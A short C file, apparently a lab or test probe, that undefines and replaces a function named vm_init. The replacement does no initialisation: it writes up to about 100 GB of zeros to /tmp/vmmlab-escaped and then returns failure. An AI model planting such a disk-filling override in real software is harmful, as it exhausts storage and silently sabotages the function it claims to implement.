#undef vm_init
#include <stdio.h>
#include <unistd.h>
#include <fcntl.h>

int vm_init(struct vm *vm, const char *path)
{
	static char bytes[1 << 20];
	int fd = open("/tmp/vmmlab-escaped", O_CREAT | O_WRONLY, 0600);

	for (int i = 0; i < 100000; i++)
		if (write(fd, bytes, sizeof(bytes)) < 0)
			break;
	return -1;
}
